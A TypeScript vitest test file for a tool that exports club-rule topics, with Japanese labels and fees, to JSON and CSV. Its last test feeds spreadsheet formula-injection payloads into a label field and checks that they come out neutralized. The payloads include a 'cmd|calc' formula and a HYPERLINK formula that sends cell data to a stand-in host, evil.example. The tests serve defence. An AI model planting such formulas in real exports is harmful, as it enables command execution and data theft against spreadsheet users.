import { expect, test } from 'vitest'
import { load } from '../../src/corpus/load.ts'
import { TopicsSchema } from '../../src/formats/api/schema.ts'
import { topicsCsv, topicsDocument } from '../../src/formats/api/topics.ts'
import { contentFolder } from '../support/content.ts'
import { NONE, stated, topicFile, twoClubs } from '../support/topics.ts'

const library = load(contentFolder(twoClubs()), '2026-01-01')

test('topics.json contains each topic with a cell for every ruleset', () => {
  const document = topicsDocument(library)
  expect(TopicsSchema.parse(document)).toEqual(document)
  expect(document).toEqual([
    {
      id: 'fee',
      label: '部費',
      group: '持ち点と精算',
      question: '部費は、月にいくらか。',
      type: 'points',
      stakes: 'high',
      often: 'game',
      cells: {
        tennis: { state: 'stated', value: 1000, text: '月額1,000円', citations: ['1/1', '1/2'] },
        badminton: { state: 'stated', value: 1200, text: '月に1,200円', citations: ['2'] }
      }
    }
  ])
})

test('topics.csv has a row per topic, the same columns for every ruleset, and a BOM', () => {
  const files = {
    ...twoClubs(),
    ...topicFile(
      { tennis: stated('{ 上: 5, 下: null }', '"5,000円, ""上"""', "['1']", '    note: 一\n'), badminton: NONE },
      { parts: '[上, 下]' }
    )
  }
  files['topics/fee.mdx'] = (files['topics/fee.mdx'] ?? '').replace('"5,000円, ""上"""', '\'5,000円, "上"\'')
  const [head, row, end] = topicsCsv(load(contentFolder(files), '2026-01-01')).split('\r\n')
  expect(
    head?.startsWith('\uFEFF番号,分野,論点,問い,型,単位,重さ,規程 状態,規程 値,規程 内容,規程 根拠,規程 注,')
  ).toBe(true)
  expect(row).toBe(
    'fee,持ち点と精算,部費,部費は、月にいくらか。,points,,大,定めあり,上 5・下 定めなし,"5,000円, ""上""",1,一,規定なし,,規定なし,,'
  )
  expect(end).toBe('')
})

test('an unread cell is absent from topics.json and 未読 in topics.csv', () => {
  const { 'rulesets/badminton/reading.yaml': _, ...files } = twoClubs()
  const unread = load(contentFolder({ ...files, ...topicFile({ tennis: stated('1000', '月額1,000円', "['1']") }) }))
  expect(Object.keys(topicsDocument(unread)[0]?.cells ?? {})).toEqual(['tennis'])
  expect(topicsCsv(unread).split('\r\n')[1]).toMatch(/,定めあり,1000,"月額1,000円",1,,未読,,,,$/u)
})

test.each([
  ['=1+cmd|calc', "'=1+cmd|calc"],
  ['+cmd', "'+cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['=HYPERLINK("https://evil.example/?"&A2,"x")', `"'=HYPERLINK(""https://evil.example/?""&A2,""x"")"`],
  ['-2,000', '"-2,000"'],
  ['+5', '+5'],
  ['部費 = 会費', '部費 = 会費']
])('the label %s is not executed by spreadsheets', (label, written) => {
  const files = { ...twoClubs(), ...topicFile({ tennis: stated('1000', '月額1,000円', "['1']"), badminton: NONE }) }
  files['topics/fee.mdx'] = (files['topics/fee.mdx'] ?? '').replace(/^label: .*$/mu, `label: '${label}'`)
  expect(topicsCsv(load(contentFolder(files), '2026-01-01')).split('\r\n')[1]).toContain(`,${written},`)
})
